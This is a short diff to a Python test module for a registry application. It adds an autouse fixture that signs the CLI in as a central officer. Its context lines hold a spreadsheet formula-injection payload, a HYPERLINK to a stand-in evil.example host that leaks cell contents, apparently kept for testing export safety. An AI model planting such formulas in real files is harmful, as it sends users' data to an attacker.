@@ -32,6 +32,7 @@ from laosp.registry.importer import import_files
 from laosp.reports.xlsx import Column, Sheet, workbook_bytes
 from laosp.server import create_app
 from tests.api.conftest import SECRET, bearer, seed
+from tests.cli_sign_in import sign_in_cli
 from tests.projection.conftest import PACK
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&C2&D2,"Click")'
@@ -116,6 +117,13 @@ def files(folder: Path) -> tuple[Path, Path]:
     pl.DataFrame(HOUSEHOLDS).write_csv(households)
     pl.DataFrame(PERSONS, infer_schema_length=None).write_csv(persons)
     return households, persons
+
+
+@pytest.fixture(autouse=True)
+def _cli_signed_in(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The registry CLI acts as a signed-in central officer."""
+    if "db_url" in request.fixturenames:
+        sign_in_cli(monkeypatch, request.getfixturevalue("db_url"))
 
 
 def register(db_url: str, folder: Path) -> Path:
